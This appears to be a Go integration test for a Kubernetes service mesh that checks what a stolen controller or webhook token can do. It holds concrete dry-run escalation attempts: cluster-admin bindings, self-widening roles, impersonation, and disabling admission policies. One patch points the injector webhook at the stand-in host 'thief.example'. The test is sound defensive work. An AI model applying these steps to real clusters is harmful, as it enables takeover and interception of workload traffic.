@@ -1,0 +1,219 @@
+package security
+
+import (
+	"context"
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
+	authenticationv1 "k8s.io/api/authentication/v1"
+	authorizationv1 "k8s.io/api/authorization/v1"
+	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/client-go/kubernetes"
+
+	"github.com/isthmus-mesh/isthmus/test/framework/environment"
+)
+
+// tick is how often a condition is looked at.
+const tick = 50 * time.Millisecond
+
+var dry = []string{"All"}
+
+// TestStolenControllerToken tries what test/integration/rbac does not: by the real
+// token, on the control plane with everything running.
+func TestStolenControllerToken(t *testing.T) {
+	servers(t)
+	ns := world.Space(t, nil, "edge", "other")
+	pod := world.Edge(t, ns, "front", "edge")
+	awaitSecret(t, ns)
+	controller := thief(t, environment.Namespace, "isthmus-controller")
+	_, err := world.Kube.CoreV1().ServiceAccounts("default").Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "target"}}, metav1.CreateOptions{})
+	require.NoError(t, err)
+	toPod := &authenticationv1.BoundObjectReference{Kind: "Pod", APIVersion: "v1", Name: pod.Name, UID: pod.UID}
+
+	t.Run("it gets what the CA takes, for every account of an opted-in namespace", func(t *testing.T) {
+		for _, account := range []string{"edge", "other"} {
+			assert.NoError(t, mint(ns, account, nil, "istio-ca")(t.Context(), controller))
+		}
+	})
+	t.Run("it reads the Secrets of edges", func(t *testing.T) {
+		assert.NoError(t, readSecret(ns, "istio-certs")(t.Context(), controller))
+	})
+	// RBAC grants the patch of an object, not of a field, and no policy is asked about
+	// configurations of webhooks: docs/security.md says what follows.
+	t.Run("it has the webhook sent what it likes, where the certificate is self-managed", func(t *testing.T) {
+		patch := `[{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]},{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://thief.example"}}]`
+		_, err := controller.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(t.Context(), "isthmus-injector", types.JSONPatchType, []byte(patch), metav1.PatchOptions{DryRun: dry})
+		assert.NoError(t, err)
+	})
+	tryAll(t, controller, map[string]attempt{
+		"a token for the API server, bound to a pod": mint(ns, "edge", toPod, "https://kubernetes.default.svc"),
+		"a token for the default, bound to a pod":    mint(ns, "edge", toPod),
+		"a token of the controller itself":           mint(environment.Namespace, "isthmus-controller", nil),
+		"a token of the controller for the CA":       mint(environment.Namespace, "isthmus-controller", nil, "istio-ca"),
+		"a token elsewhere":                          mint("default", "target", nil, "istio-ca"),
+		"list Secrets":                               listSecrets(ns),
+		"list Secrets of all":                        listSecrets(""),
+		"read the mesh's CA":                         readSecret("istio-system", "istio-ca-secret"),
+		"read the roots of the cluster":              readSecret("kube-system", "bootstrap-token"),
+		"create a pod":                               createPod(ns),
+		"create a pod beside itself":                 createPod(environment.Namespace),
+		"look into a pod": func(ctx context.Context, k *kubernetes.Clientset) error {
+			return k.CoreV1().RESTClient().Post().Namespace(ns).Resource("pods").Name("front").SubResource("exec").
+				Param("command", "cat").Param("container", "ambassador").Do(ctx).Error()
+		},
+		"read a pod's log": func(ctx context.Context, k *kubernetes.Clientset) error {
+			return k.CoreV1().RESTClient().Get().Namespace(ns).Resource("pods").Name("front").SubResource("log").Do(ctx).Error()
+		},
+		"label a namespace":    patchNamespace("default", `{"metadata":{"labels":{"isthmus.dev/injection":"enabled"}}}`),
+		"bind a role":          createBinding(ns, "mine", "isthmus-publisher"),
+		"bind the role of all": createBinding(ns, "isthmus-publisher", "cluster-admin"),
+		"bind for the cluster": func(ctx context.Context, k *kubernetes.Clientset) error {
+			_, err := k.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
+				ObjectMeta: metav1.ObjectMeta{Name: "mine"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
+			}, metav1.CreateOptions{DryRun: dry})
+			return err
+		},
+		"widen its own role": func(ctx context.Context, k *kubernetes.Clientset) error {
+			_, err := k.RbacV1().ClusterRoles().Patch(ctx, "isthmus-controller", types.JSONPatchType,
+				[]byte(`[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`), metav1.PatchOptions{DryRun: dry})
+			return err
+		},
+		"act as someone else": func(ctx context.Context, _ *kubernetes.Clientset) error {
+			token, err := world.Token(ctx, environment.Namespace, "isthmus-controller")
+			if err != nil {
+				return err
+			}
+			config := world.As(token)
+			config.Impersonate.UserName = "kubernetes-admin"
+			k, err := kubernetes.NewForConfig(config)
+			if err != nil {
+				return err
+			}
+			return listSecrets("")(ctx, k)
+		},
+		"patch another webhook's configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
+			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "istio-sidecar-injector", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{DryRun: dry})
+			return err
+		},
+		"make a webhook's configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
+			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx,
+				&admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "mine"}}, metav1.CreateOptions{DryRun: dry})
+			return err
+		},
+		"take the webhook's configuration away": func(ctx context.Context, k *kubernetes.Clientset) error {
+			return k.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(ctx, "isthmus-injector", metav1.DeleteOptions{DryRun: dry})
+		},
+		"take the policy away": func(ctx context.Context, k *kubernetes.Clientset) error {
+			return k.AdmissionregistrationV1().ValidatingAdmissionPolicies().Delete(ctx, "isthmus-controller-tokens", metav1.DeleteOptions{DryRun: dry})
+		},
+		"weaken the policy": func(ctx context.Context, k *kubernetes.Clientset) error {
+			_, err := k.AdmissionregistrationV1().ValidatingAdmissionPolicies().Patch(ctx, "isthmus-controller-tokens", types.MergePatchType, []byte(`{"spec":{"failurePolicy":"Ignore"}}`), metav1.PatchOptions{DryRun: dry})
+			return err
+		},
+		"unbind the policy": func(ctx context.Context, k *kubernetes.Clientset) error {
+			return k.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Delete(ctx, "isthmus-controller-tokens", metav1.DeleteOptions{DryRun: dry})
+		},
+		"have the policy warn only": func(ctx context.Context, k *kubernetes.Clientset) error {
+			_, err := k.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Patch(ctx, "isthmus-controller-tokens", types.MergePatchType, []byte(`{"spec":{"validationActions":["Warn"]}}`), metav1.PatchOptions{DryRun: dry})
+			return err
+		},
+	})
+}
+
+// TestStolenWebhookToken: the webhook's account reads, and writes nothing.
+func TestStolenWebhookToken(t *testing.T) {
+	servers(t)
+	ns := world.Space(t, nil, "edge")
+	world.Edge(t, ns, "front", "edge")
+	awaitSecret(t, ns)
+	webhook := thief(t, environment.Namespace, "isthmus-webhook")
+	t.Run("it reads the CA of its own certificate, with which it can be the webhook and nobody else", func(t *testing.T) {
+		assert.NoError(t, readSecret(environment.Namespace, "isthmus-webhook-ca")(t.Context(), webhook))
+	})
+	for _, where := range []string{ns, environment.Namespace, "istio-system", "kube-system"} {
+		for _, rule := range rules(t, webhook, where) {
+			for verb := range strings.SplitSeq(strings.Fields(rule)[0], ",") {
+				assert.Contains(t, []string{"get", "list", "watch"}, verb, "%s in %s", rule, where)
+			}
+		}
+	}
+	tryAll(t, webhook, map[string]attempt{
+		"read an edge's Secret":     readSecret(ns, "istio-certs"),
+		"list Secrets":              listSecrets(environment.Namespace),
+		"read the mesh's CA":        readSecret("istio-system", "istio-ca-secret"),
+		"a token of an edge":        mint(ns, "edge", nil, "istio-ca"),
+		"create a pod":              createPod(ns),
+		"label a namespace":         patchNamespace("default", `{"metadata":{"labels":{"isthmus.dev/injection":"enabled"}}}`),
+		"bind the publisher's role": createBinding(ns, "isthmus-publisher", "isthmus-publisher"),
+		"change its CA": func(ctx context.Context, k *kubernetes.Clientset) error {
+			_, err := k.CoreV1().Secrets(environment.Namespace).Patch(ctx, "isthmus-webhook-ca", types.MergePatchType, []byte(`{"data":{}}`), metav1.PatchOptions{DryRun: dry})
+			return err
+		},
+		"send pods elsewhere": func(ctx context.Context, k *kubernetes.Clientset) error {
+			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "isthmus-injector", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{DryRun: dry})
+			return err
+		},
+	})
+}
+
+func createBinding(namespace, name, role string) attempt {
+	return func(ctx context.Context, k *kubernetes.Clientset) error {
+		_, err := k.RbacV1().RoleBindings(namespace).Create(ctx, &rbacv1.RoleBinding{
+			ObjectMeta: metav1.ObjectMeta{Name: name}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
+			Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "edge", Namespace: namespace}},
+		}, metav1.CreateOptions{DryRun: dry})
+		return err
+	}
+}
+
+// TestWhoReadsTheKey asks about every account, and about the roles that Kubernetes
+// brings: who may read Secrets of the namespace may read this one. The controller
+// manager, which does not run here, puts view and edit together from these two.
+func TestWhoReadsTheKey(t *testing.T) {
+	servers(t)
+	ns := world.Space(t, nil, "edge", "viewer", "editor", "neighbour")
+	world.Edge(t, ns, "front", "edge")
+	awaitSecret(t, ns)
+	for account, role := range map[string]string{"viewer": "system:aggregate-to-view", "editor": "system:aggregate-to-edit"} {
+		_, err := world.Kube.RbacV1().RoleBindings(ns).Create(t.Context(), &rbacv1.RoleBinding{
+			ObjectMeta: metav1.ObjectMeta{Name: account}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
+			Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: account, Namespace: ns}},
+		}, metav1.CreateOptions{})
+		require.NoError(t, err)
+	}
+	for account, reads := range map[[2]string]bool{
+		{ns, "edge"}: false, {ns, "neighbour"}: false, {ns, "default"}: false, {ns, "viewer"}: false,
+		{ns, "editor"}: true,
+		{environment.Namespace, "isthmus-controller"}: true, {environment.Namespace, "isthmus-webhook"}: false, {environment.Namespace, "default"}: false,
+		{"istio-system", "default"}: false,
+	} {
+		for _, verb := range []string{"get", "list", "watch"} {
+			want := reads && (verb == "get" || account[1] != "isthmus-controller")
+			assert.EventuallyWithT(t, func(c *assert.CollectT) {
+				review, err := world.Kube.AuthorizationV1().SubjectAccessReviews().Create(t.Context(), &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
+					User: "system:serviceaccount:" + account[0] + ":" + account[1], Groups: []string{"system:serviceaccounts", "system:serviceaccounts:" + account[0], "system:authenticated"},
+					ResourceAttributes: &authorizationv1.ResourceAttributes{Namespace: ns, Verb: verb, Resource: "secrets", Name: "istio-certs"},
+				}}, metav1.CreateOptions{})
+				if assert.NoError(c, err) {
+					assert.Equal(c, want, review.Status.Allowed, "%v %s", account, verb)
+				}
+			}, patience, tick)
+		}
+	}
+	t.Run("no role of the chart adds to the roles of Kubernetes", func(t *testing.T) {
+		list, err := world.Kube.RbacV1().ClusterRoles().List(t.Context(), metav1.ListOptions{LabelSelector: "app.kubernetes.io/name=isthmus"})
+		require.NoError(t, err)
+		require.NotEmpty(t, list.Items)
+		text, err := json.Marshal(list)
+		require.NoError(t, err)
+		assert.NotContains(t, string(text), "rbac.authorization.k8s.io/aggregate-to")
+	})
+}
